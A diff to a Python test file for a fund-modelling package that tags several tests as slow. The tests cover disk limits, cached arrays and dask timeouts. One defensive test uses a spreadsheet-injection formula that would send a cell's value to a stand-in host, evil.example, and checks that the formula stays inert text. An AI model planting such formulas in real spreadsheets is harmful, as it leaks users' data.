@@ -64,6 +64,7 @@ def test_workers_that_do_not_fit_in_memory_are_refused(tmp_path, monkeypatch):
     assert "at most 2 --workers fit in memory" in err, err
 
 
+@pytest.mark.slow
 def test_scenario_file_estimate_is_the_size_written(tmp_path):
     """The disk estimate is the size of the scenario files (their layout, not a guess)."""
     from fundmodel.assumptions import load_assumptions
@@ -92,6 +93,7 @@ def _namespace_with_small_disk(size: str, readonly: bool = False) -> list[str] |
     return [unshare, "-rm", "sh", "-c", f'mount -t tmpfs -o {options} tmpfs /mnt && exec "$@"', "sh"]
 
 
+@pytest.mark.slow
 def test_a_full_disk_is_an_error_not_a_signal(tmp_path):
     """Scenario files are reserved up front: a disk that is too small is ENOSPC (exit 2), never SIGBUS."""
     prefix = _namespace_with_small_disk("6m")
@@ -114,6 +116,7 @@ def test_a_full_disk_is_an_error_not_a_signal(tmp_path):
     assert res.returncode == 2 and "does not fit on this machine (disk)" in res.stderr, (res.returncode, res.stderr)
 
 
+@pytest.mark.slow
 def test_a_read_only_output_folder_is_exit_2(tmp_path):
     prefix = _namespace_with_small_disk("1m", readonly=True)
     if prefix is None:
@@ -126,6 +129,7 @@ def test_a_read_only_output_folder_is_exit_2(tmp_path):
 
 
 # ----------------------------------------------------------------------------- 9. smaller ones
+@pytest.mark.slow
 def test_text_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     work = copy_assumptions(tmp_path / "assumptions", ["mn_ree"])
@@ -146,6 +150,7 @@ def test_text_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
     assert load_results(out, require_portfolio=False).summary.loc["mn_ree", "name"] == hostile  # read back exactly
 
 
+@pytest.mark.slow
 def test_a_truncated_cached_array_is_recomputed(work, previous, tmp_path):
     out = tmp_path / "out"
     shutil.copytree(previous, out)
@@ -159,6 +164,7 @@ def test_a_truncated_cached_array_is_recomputed(work, previous, tmp_path):
     assert np.load(npy).shape == (128, 40)
 
 
+@pytest.mark.slow
 def test_a_large_cached_array_is_checked_by_its_header_and_reused(work, tmp_path, monkeypatch, capsys):
     """Files above the hash limit (the default run's price arrays: 25 MB) are checked by their
     .npy header and size; the check must work on the installed numpy, and reuse must follow."""
@@ -201,6 +207,7 @@ def _silent_server():
         server.close()
 
 
+@pytest.mark.slow
 def test_a_dask_scheduler_that_never_answers_is_refused(tmp_path):
     out = tmp_path / "out"
     with _silent_server() as address:
@@ -213,6 +220,7 @@ def test_a_dask_scheduler_that_never_answers_is_refused(tmp_path):
     assert not out.exists()
 
 
+@pytest.mark.slow
 def test_a_dask_cluster_without_workers_times_out(tmp_path):
     port_probe = socket.socket()
     port_probe.bind(("127.0.0.1", 0))
